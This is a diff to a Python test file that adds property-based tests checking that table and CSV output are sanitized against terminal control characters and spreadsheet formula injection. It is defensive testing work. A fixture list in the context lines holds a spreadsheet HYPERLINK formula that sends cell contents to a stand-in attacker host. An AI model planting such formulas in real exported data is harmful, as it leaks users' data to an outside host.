@@ -6,12 +6,13 @@ characters (`ESC[2J` cleared the screen, C1 CSI does the same on many terminals)
 
 from __future__ import annotations
 
+import contextlib
 import csv
 import io
 from typing import Any
 
 import pytest
-from hypothesis import given
+from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from tenantry.audit_tail import human_line
@@ -20,7 +21,7 @@ from tenantry.cli.apply import _action_lines
 from tenantry.cli.sanitize import for_csv, for_rich, for_terminal
 from tenantry.manifests import Source
 from tenantry.plan import ABSENT, Action, Change
-from tenantry.results import StorageIntegration
+from tenantry.results import Cluster, StorageIntegration
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example.com/?"&A1,"click")',
@@ -156,7 +157,7 @@ def test_for_terminal_leaves_no_control_character_and_is_reversible_to_the_eye(
 ) -> None:
     shown = for_terminal(text)
     assert not _controls(shown)
-    if not _controls(text):
+    if not any(ord(c) in CONTROL for c in text):
         assert shown == text
 
 
@@ -176,3 +177,48 @@ def test_for_csv_never_starts_a_formula(text: str) -> None:
     cell = for_csv(text)
     assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
     assert cell.removeprefix("'") == text or cell == text
+
+
+_TEXT = st.text(max_size=40) | st.sampled_from([*FORMULAS, *HOSTILE])
+_ROWS = st.lists(
+    st.fixed_dictionaries({column: st.none() | _TEXT for column in compliance.COLUMNS}),
+    max_size=4,
+)
+
+
+@settings(max_examples=150, deadline=None)
+@given(rows=_ROWS)
+def test_any_rows_render_as_text_in_a_table_and_as_inert_cells_in_csv(
+    rows: list[dict[str, Any]],
+) -> None:
+    table = io.StringIO()
+    with contextlib.redirect_stdout(table):
+        compliance.render(rows, "table", "access in force")
+    assert not _controls(table.getvalue()), repr(table.getvalue())
+    sheet = io.StringIO()
+    with contextlib.redirect_stdout(sheet):
+        compliance.render(rows, "csv", "access in force")
+    written = list(csv.DictReader(io.StringIO(sheet.getvalue())))
+    assert written == [{k: for_csv(row[k]) for k in compliance.COLUMNS} for row in rows]
+
+
+@settings(max_examples=100, deadline=None)
+@given(root=_TEXT, region=st.none() | _TEXT, labels=st.dictionaries(_TEXT, _TEXT, max_size=3))
+def test_any_text_in_get_tables_is_shown_as_text(
+    root: str, region: str | None, labels: dict[str, str]
+) -> None:
+    shown = io.StringIO()
+    with contextlib.redirect_stdout(shown):
+        get._print_table(
+            get._KINDS["storage-integrations"],
+            [StorageIntegration(name="files", provider="local", storage_root=root, region=region)],
+        )
+        get._print_table(
+            get._KINDS["clusters"],
+            [
+                Cluster(
+                    name="c1", region=root, provider="generic", environments=[root], labels=labels
+                )
+            ],
+        )
+    assert not _controls(shown.getvalue()), repr(shown.getvalue())
